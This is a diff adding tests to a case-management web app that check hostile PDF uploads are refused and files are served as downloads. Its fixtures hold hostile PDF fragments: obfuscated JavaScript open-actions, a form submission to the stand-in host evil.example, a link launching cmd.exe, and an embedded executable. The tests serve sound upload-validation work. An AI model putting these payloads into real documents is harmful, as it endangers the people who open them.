@@ -11,9 +11,11 @@ from outpost.cases.models import Attachment, Case
 from outpost.cases.workflow import State
 from outpost.geo.models import Grid
 from tests.cases.conftest import file_case, point_in
+from tests.cases.pdfs import encrypted, in_object_stream, one_page
 from tests.cases.photos import (
     HTML_AS_JPEG,
     MAKE,
+    assert_served_as_download,
     exif_of,
     has_gps,
     phone_photo,
@@ -188,3 +190,80 @@ def test_it_loses_nothing_when_a_report_carries_a_bad_file(
     answer = report_with(grid_worker, home_grid, SimpleUploadedFile("virus.jpg", HTML_AS_JPEG))
     assert answer.status_code == 200 and "virus.jpg" in answer.content.decode()
     assert not Case.objects.filter(title="垃圾堆在消防通道").exists()
+
+
+LINK = b"<</Type/Annot/Subtype/Link/Rect[0 0 50 50]/A<</S/%s/%s(%s)>>>>"
+HOSTILE_PDFS = {
+    "script behind escaped names": one_page(b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"),
+    "script in a compressed object stream": in_object_stream(
+        b"/OpenAction 5 0 R", b"<</S/JavaScript/JS(app.alert(1))>>"
+    ),
+    "page action sending a form": one_page(
+        b"", b"/AA<</O<</S/SubmitForm/F(https://evil.example/)>>>>"
+    ),
+    "link that launches a program": one_page(
+        b"", b"/Annots[4 0 R]", LINK % (b"L#61unch", b"F", b"cmd.exe")
+    ),
+    "link that runs javascript:": one_page(
+        b"", b"/Annots[4 0 R]", LINK % (b"URI", b"URI", b"javascript:alert(1)")
+    ),
+    "embedded file": one_page(
+        b"/Names<</Embedded#46iles<</Names[(a.exe)4 0 R]>>>>",
+        b"",
+        b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
+        b"<</Type/Embedded#46ile/Length 2>>stream\nMZ\nendstream",
+    ),
+    "XFA form": one_page(
+        b"/AcroForm<</Fields[]/XFA 4 0 R>>", b"", b"<</Length 6>>stream\n<xdp/>\nendstream"
+    ),
+}
+
+
+@pytest.mark.parametrize("kind", HOSTILE_PDFS)
+def test_it_refuses_pdfs_that_hide_active_content(
+    kind: str, home_grid: Grid, grid_worker: Persona
+) -> None:
+    case = file_case(home_grid, grid_worker.user)
+    answer = upload(grid_worker.client, case, ("协议.pdf", HOSTILE_PDFS[kind]))
+    assert answer.status_code == 422, (kind, answer.content)
+    assert "协议.pdf" in answer.json()["detail"] and "脚本" in answer.json()["detail"]
+    assert not Attachment.objects.exists()
+
+
+def test_it_refuses_pdfs_it_cannot_read_through(home_grid: Grid, grid_worker: Persona) -> None:
+    case = file_case(home_grid, grid_worker.user)
+    for name, data in (
+        ("加密.pdf", encrypted()),
+        ("坏的.pdf", b"%PDF-1.7\nnot a document at all\n%%EOF\n"),
+    ):
+        answer = upload(grid_worker.client, case, (name, data))
+        assert answer.status_code == 422, (name, answer.content)
+        assert name in answer.json()["detail"] and "无法读取" in answer.json()["detail"]
+    assert not Attachment.objects.exists()
+
+
+def test_it_accepts_ordinary_pdfs_that_open_at_a_page_and_link_to_the_web(
+    home_grid: Grid, grid_worker: Persona
+) -> None:
+    ordinary = one_page(
+        b"/OpenAction[3 0 R/Fit]",  # what office suites write: open at page 1, not an action
+        b"/Annots[4 0 R]",
+        LINK % (b"URI", b"URI", b"https://www.gov.cn/"),
+    )
+    case = file_case(home_grid, grid_worker.user)
+    answer = upload(grid_worker.client, case, ("通知.pdf", ordinary), ("空白.pdf", one_page()))
+    assert answer.status_code == 201, answer.content
+
+
+def test_it_serves_files_as_downloads_that_cannot_run_in_the_browser(
+    home_grid: Grid, grid_worker: Persona
+) -> None:
+    case = file_case(home_grid, grid_worker.user)
+    kept = upload(grid_worker.client, case, ("调解协议.pdf", one_page()), ("a.jpg", phone_photo()))
+    pdf, photo = kept.json()
+    # RFC 6266: the Chinese name travels percent-encoded in filename*.
+    assert_served_as_download(
+        grid_worker.client.get(pdf["url"]),
+        "filename*=utf-8''%E8%B0%83%E8%A7%A3%E5%8D%8F%E8%AE%AE.pdf",
+    )
+    assert_served_as_download(grid_worker.client.get(photo["url"]), 'filename="a.jpg"')
